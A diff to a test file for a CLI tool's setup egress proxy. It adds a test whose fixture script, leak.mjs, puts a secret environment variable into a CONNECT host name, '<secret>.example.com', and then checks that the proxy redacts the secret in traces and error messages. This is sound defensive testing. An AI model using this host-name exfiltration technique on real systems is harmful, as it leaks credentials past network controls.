@@ -7,7 +7,7 @@ import { after, describe, test } from "node:test";
 import { runCli } from "./helpers/cli.ts";
 import { makeRepo } from "./helpers/git-fixture.ts";
 import { baseArgs, setUpScriptedRun } from "./helpers/scripted-run.ts";
-import { registryReach } from "./helpers/setup-project.ts";
+import { canary, canaryVariable, registryReach } from "./helpers/setup-project.ts";
 
 const registry = await registryReach();
 const [refusedRange] = registry.allowAddresses;
@@ -37,10 +37,12 @@ describe("a setup download the egress proxy refuses", () => {
 
   async function runOn(repo: string) {
     // No sandbox.egressAllowAddresses: the proxy's own rules decide.
-    const setup = await setUpScriptedRun({ turns: [] }, "anthropic");
+    const setup = await setUpScriptedRun({ turns: [] }, "anthropic", {
+      setup: { secretEnv: [canaryVariable] },
+    });
     cleanups.push(() => setup.server.close());
     const result = await runCli([...baseArgs(setup), "run", "--repo", repo, "--task", "x", "--json"], {
-      env: setup.env,
+      env: { ...setup.env, [canaryVariable]: canary },
       timeoutMs: 300_000,
     });
     const report = JSON.parse(result.stdout || "{}");
@@ -52,7 +54,7 @@ describe("a setup download the egress proxy refuses", () => {
     const events = (JSON.parse(shown.stdout) as { events: TraceEvent[] }).events;
     const setupEnd = events.find((event) => event.type === "setup-end")!;
     assert.equal(setupEnd.data.cause, report.detail, "the trace's setup-end says the same");
-    return { setup, detail: report.detail as string };
+    return { setup, detail: report.detail as string, events };
   }
 
   test("a registry host off the allowlist: the cause names the host and setup.allowHosts, then npm's line", async () => {
@@ -72,6 +74,36 @@ describe("a setup download the egress proxy refuses", () => {
       alone.stdout,
       /setup failed: setup's egress proxy refused registry\.example\.com: not on setup's allowlist/,
     );
+  });
+
+  test("a secret a setup script puts into a refused host name is in no trace event and not in the cause", async () => {
+    // The script asks the proxy for a tunnel to <secret>.example.com (off the allowlist), then fails.
+    const leak = `import http from "node:http";
+const proxy = new URL(process.env.HTTPS_PROXY);
+const target = process.env.${canaryVariable} + ".example.com:443";
+await new Promise((done) => {
+  const request = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target, timeout: 10000 });
+  request.on("connect", (response, socket) => { console.error("error: tunnel " + response.statusCode); socket.destroy(); done(); });
+  request.on("error", done);
+  request.on("timeout", () => { request.destroy(); done(); });
+  request.end();
+});
+process.exit(1);
+`;
+    const repo = makeRepo({
+      "package.json": JSON.stringify({ name: "leak", private: true }),
+      ".slipway.yml": "setup:\n  commands: ['node scripts/leak.mjs']\n  allowHosts: [allowed.example.com]\n",
+      "scripts/leak.mjs": leak,
+    });
+    const { detail, events } = await runOn(repo);
+    assert.match(detail, /^setup's egress proxy refused \*\*\*\.example\.com: not on setup's allowlist/);
+    const egress = events.filter((event) => event.type === "setup-egress");
+    assert.deepEqual(
+      egress.map((event) => event.data.host),
+      ["***.example.com"],
+    );
+    assert.equal(JSON.stringify(events).includes(canary), false);
+    assert.equal(detail.includes(canary), false);
   });
 
   test("the registry resolves to a refused address: the cause names it and sandbox.egressAllowAddresses", {
